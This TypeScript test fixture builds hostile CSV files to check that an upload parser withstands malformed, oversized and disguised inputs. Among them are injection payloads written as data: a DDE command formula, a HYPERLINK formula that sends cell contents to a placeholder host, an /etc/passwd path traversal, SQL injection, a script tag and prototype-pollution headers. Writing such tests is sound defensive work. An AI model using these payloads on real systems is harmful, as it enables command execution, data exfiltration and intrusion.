import type { HostileFile, HostileSizes } from './types';

const HEADER = 'region,zip\r\n';
const bom = Buffer.from('efbbbf', 'hex');

/** Returns a file of this size: a beginning, then one repeated unit. */
const filled = (bytes: number, begin: string, unit: string) => {
  const head = Buffer.from(begin);
  return Buffer.concat([head, Buffer.alloc(bytes - head.length, unit)]);
};

export function hostileCsv({ largeBytes }: HostileSizes): HostileFile[] {
  const file = (name: string, isRead: boolean | null, bytes: () => Buffer | string): HostileFile => ({
    name: `csv: ${name}`,
    bytes: () => Buffer.from(bytes()),
    isRead,
  });
  return [
    file('an unclosed quote of 50 MB', false, () => filled(largeBytes, `${HEADER}"`, 'x')),
    file('an unclosed quote over many lines', false, () => filled(largeBytes, `${HEADER}"`, 'a,b\r\n')),
    file('a million quotes', null, () => filled(largeBytes, HEADER, '"')),
    file('a million quoted quotes', null, () => filled(largeBytes, `${HEADER}a,"`, '""')),
    file('a million quotes and commas', null, () => filled(largeBytes, HEADER, '"",')),
    file('an endless line', false, () => filled(largeBytes, HEADER, 'x')),
    file('an endless header', false, () => filled(largeBytes, 'region,', 'x')),
    file('endless commas', false, () => filled(largeBytes, HEADER, ',')),
    file('a header of a million columns', false, () => filled(largeBytes, '', 'abc,')),
    file('endless line breaks', true, () => filled(largeBytes, HEADER, '\n')),
    file('endless carriage returns', true, () => filled(largeBytes, HEADER, '\r')),
    file('endless spaces', false, () => filled(largeBytes, HEADER, ' ')),
    file('endless tabs', false, () => filled(largeBytes, HEADER, '\t')),
    file('more rows than allowed', false, () => filled(5_000_000, HEADER, 'a\n')),
    file('NULs', false, () => filled(largeBytes, '', '\0')),
    file('NULs after valid rows', false, () =>
      filled(largeBytes, `${HEADER}${'a,b\r\n'.repeat(2_000)}`, '\0'),
    ),
    file('a NUL in a cell', null, () => `${HEADER}a\0b,93901\r\n`),
    file('an empty file', true, () => ''),
    file('only a byte order mark', true, () => bom),
    file('only spaces', true, () => '   '),
    file('only line breaks', true, () => '\r\n\r\n\r\n'),
    file('two byte order marks', true, () => Buffer.concat([bom, bom, Buffer.from(`${HEADER}a,93901\r\n`)])),
    file('half a byte order mark', true, () => Buffer.from([0xef, 0xbb])),
    file('half a character at the end', null, () =>
      Buffer.concat([Buffer.from(`${HEADER}a,`), Buffer.from([0xe2, 0x82])]),
    ),
    file('half a character in a cell', null, () =>
      Buffer.concat([Buffer.from(`${HEADER}`), Buffer.from([0xe2, 0x82]), Buffer.from(',93901\r\n')]),
    ),
    file('overlong UTF-8', null, () => Buffer.concat([Buffer.from(HEADER), Buffer.from('c0ae2c31', 'hex')])),
    file('a lone surrogate in bytes', null, () =>
      Buffer.concat([Buffer.from(HEADER), Buffer.from('eda0802c31', 'hex')]),
    ),
    file('noise', null, () =>
      Buffer.from(Array.from({ length: 4_000 }, (_, index) => 1 + ((index * 7919) % 255))),
    ),
    file('UTF-16 with a byte order mark', null, () => Buffer.from(`\uFEFF${HEADER}a,93901\r\n`, 'utf16le')),
    file('big-endian UTF-16 with a byte order mark', null, () =>
      Buffer.from(`\uFEFF${HEADER}a,93901\r\n`, 'utf16le').swap16(),
    ),
    file('UTF-16 without a byte order mark', false, () => Buffer.from(`${HEADER}a,93901\r\n`, 'utf16le')),
    file('UTF-32', null, () => Buffer.from('fffe000072000000', 'hex')),
    file('UTF-16 with an odd number of bytes', null, () =>
      Buffer.from(`\uFEFF${HEADER}a`, 'utf16le').subarray(0, -1),
    ),
    file('a lone surrogate in UTF-16', null, () =>
      Buffer.from(`\uFEFF${HEADER}a\uD800,93901\r\n`, 'utf16le'),
    ),
    file(
      'formulas',
      true,
      () => `${HEADER}=cmd|'/c calc'!A1,93901\r\n+1,93902\r\n-1,93903\r\n@SUM(1),93904\r\n`,
    ),
    file('a formula that sends data', true, () => `${HEADER}"=HYPERLINK(""http://a/""&A1)",93901\r\n`),
    file('headers named like object properties', true, () => '__proto__,constructor,toString\r\n1,2,3\r\n'),
    file('a path', true, () => `${HEADER}../../etc/passwd,93901\r\n`),
    file('a statement', true, () => `${HEADER}'; drop table region; --,93901\r\n`),
    file('a script', true, () => `${HEADER}<script>alert(1)</script>,93901\r\n`),
    file('a right-to-left override', true, () => `${HEADER}a\u202Egnp.exe,93901\r\n`),
    file('a ZIP file appended', true, () => `${HEADER}a,93901\r\nPK\x03\x04`),
    file('a web page named .xls', false, () => '<html><table><tr><td>region</td></tr></table></html>'),
    file('a web page after a byte order mark', false, () =>
      Buffer.concat([bom, Buffer.from('\n<!DOCTYPE html>')]),
    ),
    file('an XML sheet', false, () => '<?xml version="1.0"?><Workbook/>'),
    file('a billion laughs', false, () => '<!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>'),
    file('a PDF file', false, () => '%PDF-1.7\n%\xe2\xe3\n'),
    file('a text document', false, () => '{\\rtf1\\ansi region,zip}'),
    file('a compressed file', false, () => Buffer.from('1f8b0800000000000003', 'hex')),
    file('another archive', false, () => Buffer.from("7z\xbc\xaf'\x1c", 'latin1')),
    file('a picture', false, () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')),
    file('a program', false, () => Buffer.from('7f454c4602010100000000', 'hex')),
    file('a sheet of Excel 2', false, () => Buffer.from('0900040002001000', 'hex')),
  ];
}
